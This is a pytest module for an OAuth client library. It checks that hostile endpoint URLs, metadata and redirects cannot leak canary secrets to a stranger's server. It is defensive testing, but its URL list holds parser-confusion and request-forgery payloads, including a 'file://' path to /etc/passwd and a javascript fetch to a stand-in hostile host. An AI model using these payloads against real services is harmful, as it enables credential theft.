"""
No secret leaves for a server that the caller did not name.

A hostile description, metadata or redirect points at a second server. Whatever becomes of the call, that server must not
receive a byte of a secret. Each case runs for each source that has the endpoint.
"""

from __future__ import annotations

import base64
import json
import random
from collections.abc import Callable, Iterator
from dataclasses import dataclass, replace
from typing import Any
from urllib.parse import parse_qs, unquote_plus, urlencode, urlsplit

import pytest

from dynaclient import DynaclientError, auth
from dynaclient.auth.sources.source import SourceContext
from tests.support.authorization_servers import context_of, path_of, run
from tests.support.keys import KEYS, pem_of
from tests.support.raw_server import RawServer, Received, raw_response

PEM = pem_of(KEYS["EC"])
SECRETS = {
    "client secret": "canary-client-secret", "refresh token": "canary-refresh-token", "password": "canary-password",
    "code": "canary-code", "device code": "canary-device-code", "subject token": "canary-subject-token",
    "private key": PEM.splitlines()[1],
}  # fmt: skip
STOLEN = [*SECRETS.values(), "client_assertion=", "assertion=eyJ", "code_verifier=", "Authorization: Basic"]
"""What the second server must never receive: the secrets, and whatever is signed or derived from them."""
REFRESHED = auth.Token("old", refresh_token=SECRETS["refresh token"])
PUBLIC: dict[str, Any] = {"client_id": "id", "client_secret": SECRETS["client secret"]}


@dataclass(frozen=True)
class Hosts:
    """The server of the API, and the one of a stranger: scheme, host and port."""

    api: str
    evil: str

    def fill(self, template: str) -> str:
        """Return a URL with the hosts in it: {api} and {evil}, and {port} of the stranger."""
        return template.format(api=self.api, evil=self.evil, port=self.evil.rpartition(":")[2])


URLS = [
    "http://{evil}/token", "http://{evil}", "http://{evil}/?x=1", "HTTP://{evil}/token", "//{evil}/token",
    "///{evil}/token", "/\\{evil}/token", "\\\\{evil}\\token", "http:{evil}/token", "http:/{evil}/token",
    "http:\\\\{evil}/token", " http://{evil}/token", "\thttp://{evil}/token", "ht\ntp://{evil}/token",
    "http://{evil}\r\n/token", "http://{api}@{evil}/token", "http://{api}:x@{evil}/token", "http://x:y@{evil}/",
    "http://{api}%40{evil}/token", "http://{evil}\\@{api}/token", "http://{evil}#@{api}/token",
    "http://{evil}?@{api}/token", "http://{evil};{api}/token", "http://{api}.{evil}/token", "http://{api}:{port}/token",
    "http://localhost:{port}/token", "http://localhost.:{port}/token", "http://127.1:{port}/token",
    "http://0x7f.0.0.1:{port}/token", "http://2130706433:{port}/token", "http://[::ffff:127.0.0.1]:{port}/token",
    "http://127.0.0.1.:{port}/token", "http://127.0.0.1:0{port}/token", "http://127.0.0.1:+{port}/token",
    "http://127。0。0。1:{port}/token", "http://①②⑦.⓪.⓪.①:{port}/token", "http://127.0.0.1%3A{port}/token",
    "http://{api}\u0000@{evil}/token", "http://{api}/../../{evil}/token", "/../{evil}/token", "/%2F{evil}/token",
    "./http://{evil}/token", "?http://{evil}/token", "http://{evil}/{api}/token", "https://{evil}/token",
    "ws://{evil}/token", "file://{evil}/etc/passwd", "javascript:fetch('http://{evil}')", "data:,{evil}", "",
]  # fmt: skip
"""URLs that some parser takes for one of the second server."""
OTHER_VALUES: list[Any] = [None, 5, ["http://{evil}/token"], {"url": "http://{evil}/token"}, True]

Act = Callable[[SourceContext, "RawServer"], Any]


def exchanges(make: Callable[[], Any], previous: auth.Token | None = None) -> Act:
    """Return what makes a source obtain a token."""
    return lambda context, _: run(make().exchange(replace(context, previous=previous)))


def log_in_with_browser(context: SourceContext, _: RawServer) -> None:
    """Log in by a browser that is sent back with a code."""
    source = auth.AuthorizationCode("id", SECRETS["client secret"])
    login = run(source.begin(context))
    state = parse_qs(urlsplit(login.url).query)["state"][0]
    run(source.finish(login, f"{login.redirect_uri}?{urlencode({'state': state, 'code': SECRETS['code']})}"))


def log_in_on_device(context: SourceContext, _: RawServer) -> None:
    """Log in on another device, whose person is fast."""
    source = auth.DeviceAuthorization("id", SECRETS["client secret"])
    login = run(source.begin(context))
    run(source.finish(replace(login, interval=0.01)))


ACTS: dict[str, tuple[str, Act]] = {
    "client credentials": ("clientCredentials", exchanges(lambda: auth.ClientCredentials(**PUBLIC))),
    "private_key_jwt": ("clientCredentials", exchanges(lambda: auth.ClientCredentials("id", private_key=PEM))),
    "password": ("password", exchanges(lambda: auth.Password("ann", SECRETS["password"], **PUBLIC))),
    "refresh token": ("authorizationCode", exchanges(lambda: auth.RefreshToken("id", SECRETS["refresh token"]))),
    "session": ("authorizationCode", exchanges(lambda: auth.AuthorizationCode(**PUBLIC), REFRESHED)),
    "JWT bearer": ("clientCredentials", exchanges(lambda: auth.JwtBearer("id", PEM))),
    "token exchange": ("clientCredentials", exchanges(lambda: auth.TokenExchange(SECRETS["subject token"]))),
    "browser": ("authorizationCode", log_in_with_browser),
    "device": ("deviceAuthorization", log_in_on_device),
}  # fmt: skip
"""Name → the flow of the description that it uses, and what is done."""
_KEYS = {
    "clientCredentials": ("tokenUrl", "refreshUrl"),
    "password": ("tokenUrl",),
    "authorizationCode": ("tokenUrl", "refreshUrl", "authorizationUrl"),
    "deviceAuthorization": ("tokenUrl", "deviceAuthorizationUrl"),
}  # fmt: skip
GOOD = {
    "tokenUrl": "/token", "authorizationUrl": "/authorize", "deviceAuthorizationUrl": "/device",
}  # fmt: skip
METADATA = ["openIdConnectUrl", "oauth2MetadataUrl"]


@dataclass(frozen=True)
class Case:
    """A description, and what the server of the API returns, that lead to the second server."""

    act: str
    values: dict[str, Any]
    answer: str = "good"
    status: int = 307

    def __str__(self) -> str:
        return f"{self.act}, {self.answer} {self.status}, {json.dumps(self.values)}"


def cases() -> Iterator[Case]:
    """Yield each case."""
    for act, (flow, _) in ACTS.items():
        for key in _KEYS[flow]:
            for value in (*URLS, *OTHER_VALUES):
                yield Case(act, {**GOOD, key: value})
        for key in METADATA:
            for value in URLS:
                suffix = "/.well-known/openid-configuration" if isinstance(value, str) else ""
                yield Case(act, {key: f"{value.removesuffix('/token')}{suffix}"})
            for answer in ("good", "evil issuer", "redirect"):
                yield Case(act, {key: "/.well-known/openid-configuration"}, answer)
        for status in (301, 302, 303, 307, 308):
            yield Case(act, GOOD, "redirect", status)
        for name in ("redirect_uri", "client_secret", "grant_type", "scope", "code_verifier"):
            yield Case(act, {**GOOD, "parameters": {name: "http://{evil}/"}})


ALL = list(cases())
SOME = random.Random(15).sample(ALL, len(ALL) // 20)


def filled(value: Any, hosts: Hosts) -> Any:
    """Return a value of a description with the hosts in it."""
    if isinstance(value, str):
        return hosts.fill(value) if "{" in value else value
    if isinstance(value, dict):
        return {name: filled(member, hosts) for name, member in value.items()}
    return [filled(item, hosts) for item in value] if isinstance(value, list) else value


def answer_of(case: Case, hosts: Hosts, received: Received) -> bytes:
    """Return the response of the server of the API to a request."""
    path = path_of(received.target)
    if case.answer == "redirect":
        location = f"http://{hosts.evil}{received.target}"
        head = f"HTTP/1.1 {case.status} Moved\r\nLocation: {location}\r\nContent-Length: 0\r\n\r\n"
        return head.encode()
    if "well-known" in path:
        issuer = f"http://{hosts.api}" if case.answer == "good" else f"http://{hosts.evil}"
        names = ("token", "authorization", "device_authorization", "revocation")
        return as_json({"issuer": issuer, **{f"{name}_endpoint": f"http://{hosts.evil}/{name}" for name in names}})
    if path == "/device":
        codes = {"device_code": SECRETS["device code"], "user_code": "A", "verification_uri": f"http://{hosts.evil}/"}
        return as_json({**codes, "interval": 1})
    return as_json({"access_token": "good", "refresh_token": SECRETS["refresh token"]})


def as_json(values: Any) -> bytes:
    """Return a response with JSON."""
    return raw_response(json.dumps(values).encode())


def received_by(server: RawServer) -> str:
    """Return all that a server received, also decoded."""
    found = []
    for each in server.requests:
        text = (each.head + each.body).decode("latin-1")
        credential = each.value("Authorization").rpartition(" ")[2]
        found += [text, unquote_plus(text), base64.b64decode(credential + "===", validate=False).decode("latin-1")]
    return "\n".join(found)


def stolen(case: Case) -> list[str]:
    """Return which secrets the second server received."""
    with RawServer(lambda _: as_json({"access_token": "evil"})) as evil:
        hosts = Hosts("", evil.url.removeprefix("http://"))
        with RawServer(lambda received: answer_of(case, hosts, received)) as api:
            hosts = Hosts(api.url.removeprefix("http://"), hosts.evil)
            flow, act = ACTS[case.act]
            context = context_of({"way": {"by": flow, **filled(case.values, hosts)}}, base=api.url)
            message = ""
            try:
                act(context, api)
            except DynaclientError as error:
                message = str(error)
        return [secret for secret in STOLEN if secret in received_by(evil) + message]


def test_there_are_many_cases() -> None:
    assert len(ALL) >= 500
    assert len(SOME) >= 50


@pytest.mark.parametrize("part", range(4))
def test_a_stranger_receives_no_secret(part: int) -> None:
    assert {str(case): found for case in SOME[part::4] if (found := stolen(case))} == {}


@pytest.mark.full
@pytest.mark.parametrize("part", range(16))
def test_a_stranger_receives_no_secret_in_any_case(part: int) -> None:
    assert {str(case): found for case in ALL[part::16] if (found := stolen(case))} == {}


@pytest.mark.parametrize("act", ACTS)
def test_the_judge_sees_what_a_server_receives_that_the_caller_trusts(act: str) -> None:
    """The same acts at a server that may have the secrets: what this module looks for is there."""
    with RawServer(lambda received: answer_of(Case(act, {}), Hosts("", "stranger.example"), received)) as api:
        flow, do = ACTS[act]
        do(context_of({"way": {"by": flow, **GOOD}}, base=api.url), api)
        assert [secret for secret in STOLEN if secret in received_by(api)]
